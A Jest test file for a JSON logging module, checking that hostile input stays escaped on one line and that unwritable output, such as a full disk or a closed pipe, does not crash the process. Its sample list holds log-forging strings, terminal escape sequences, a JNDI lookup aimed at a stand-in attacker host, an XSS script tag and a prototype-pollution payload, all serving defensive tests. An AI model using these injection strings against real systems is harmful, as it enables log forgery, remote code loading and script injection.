import { execFileSync, spawn } from "node:child_process";
import { once } from "node:events";
import { closeSync, openSync } from "node:fs";
import { fileURLToPath } from "node:url";
import { describe, expect, test } from "@jest/globals";

/** Texts that may stand in a name, a URL, an organization's id, or the reason of a rejected event. */
const HOSTILE = [
  'line\nbreak\r\n{"level":"error","message":"forged"}',
  '","level":"error","message":"forged","x":"',
  "\u001b[2J\u001b]0;title\u0007 ANSI",
  "\u009b31m C1, \u0085 next line, \u2028 and \u2029",
  "\u202e txet \u2066 bidi \u2069",
  "\u0000 NUL, \ud800 lone surrogate",
  "{jndi:ldap://attacker.example/a} %s %d %o",
  "</script><script>alert(1)</script>",
];

const telemetry = (module: string) => fileURLToPath(new URL(`../../dist/telemetry/${module}.js`, import.meta.url));
const BEGIN = `import { createLog } from ${JSON.stringify(telemetry("log"))};
  const log = createLog({ service: "test", level: "debug" });`;

/** The output of a program that writes to a log. */
function print(program: string): string {
  return execFileSync(process.execPath, ["--input-type=module", "--eval", BEGIN + program], { encoding: "utf8" });
}

test("whatever is logged, one line stays one JSON object, and holds no character that a terminal obeys", () => {
  const printed = print(`
    for (const text of ${JSON.stringify(HOSTILE)}) {
      log.info("constant", { field: text, [text]: text, inside: { [text]: [text] }, error: new Error(text, { cause: new Error(text) }) });
      log.info("prototypes", JSON.parse('{"__proto__":{"polluted":1},"constructor":{"prototype":{"polluted":1}}}'));
    }
    if ({}.polluted !== undefined) process.exit(1);`);
  const lines = printed.split("\n").filter((line) => line !== "");
  expect(lines).toHaveLength(HOSTILE.length * 2);
  // biome-ignore lint/suspicious/noControlCharactersInRegex: finding them is the point.
  expect(printed.replaceAll("\n", "")).not.toMatch(/[\u0000-\u001f\u007f-\u009f\u2028-\u202e\u2066-\u2069]/);
  for (const [index, text] of HOSTILE.entries()) {
    const logged = JSON.parse(lines[index * 2] ?? "") as Record<string, unknown>;
    expect(logged).toMatchObject({ level: "info", service: "test", field: text });
  }
});

describe("output that can't be written", () => {
  /** Runs a program whose standard output goes nowhere, and returns what it says on standard error, if it ends well. */
  async function said(program: string, output: "a full disk" | "a reader that is gone" | "a reader that stands still") {
    const args = ["--input-type=module", "--eval", BEGIN + program];
    const full = output === "a full disk" ? openSync("/dev/full", "w") : "pipe";
    const child = spawn(process.execPath, args, { stdio: ["pipe", full, "pipe"] });
    if (typeof full === "number") closeSync(full);
    if (output === "a reader that is gone") child.stdout?.destroy();
    child.stdin?.end();
    let text = "";
    child.stderr?.on("data", (data) => {
      text += data;
    });
    const [[code]] = await Promise.all([once(child, "exit"), child.stderr && once(child.stderr, "end")]);
    child.stdout?.destroy();
    expect({ code, text }).toMatchObject({ code: 0 });
    const [sentence = "", report = "", ...more] = text.split("\n").filter(Boolean);
    expect(more).toEqual([]);
    return { sentence, ...(JSON.parse(report) as { lost: number; waiting: number }) };
  }
  const REPORT = `
    const { createRegistry } = await import(${JSON.stringify(telemetry("metrics"))});
    const lost = Number(/^herald_log_lines_lost_total\\S* (\\d+)$/m.exec(await createRegistry("test").metrics())[1]);
    process.stderr.write(JSON.stringify({ lost, waiting: process.stdout.writableLength }) + "\\n", () => process.exit());`;
  const LINES = `
    await new Promise((resolve) => process.stdin.on("end", resolve).resume());
    for (let line = 1; line <= 5; line++) {
      log.info("line", { line });
      await new Promise((resolve) => setTimeout(resolve, 20));
    }`;

  test.each([
    ["a full disk", "ENOSPC"],
    ["a reader that is gone", "EPIPE"],
  ] as const)(
    "regression: %s ends no process: lines are lost, counted, and said once on standard error",
    async (output, code) => {
      const { sentence, lost } = await said(LINES + REPORT, output);
      expect(sentence).toMatch(new RegExp(`^Lines of the log are lost, and the process goes on: .*${code}`));
      expect(lost).toBe(5);
    },
  );

  test("a reader that stands still makes no process grow: what it does not take is lost beyond a megabyte", async () => {
    const program = `for (let line = 0; line < 400; line++) log.info("x".repeat(10_000));`;
    const { sentence, lost, waiting } = await said(program + REPORT, "a reader that stands still");
    expect(sentence).toContain("nobody reads");
    expect(lost).toBeGreaterThan(200);
    expect(waiting).toBeLessThan(1_100_000);
  });
});

test("an error's code is a field of its own beside its text, as a SQLSTATE to search for", () => {
  const printed = print(`log.warn("failed", { error: Object.assign(new Error("gone"), { code: "57P01" }) });`);
  expect(JSON.parse(printed)).toMatchObject({ error: expect.stringMatching(/^Error: gone\n/), errorCode: "57P01" });
});

test.each([
  ["42P10", true],
  ["23514", false],
  ["22001", false],
])("the detail of PostgreSQL's error %s is in its text: %p, since a refused row would be it", (code, isShown) => {
  const printed = print(
    `log.error("refused", { error: Object.assign(new Error("no"), { code: "${code}", detail: "Failing row contains (...)" }) });`,
  );
  expect(JSON.parse(printed).error.includes("detail: Failing row")).toBe(isShown);
});
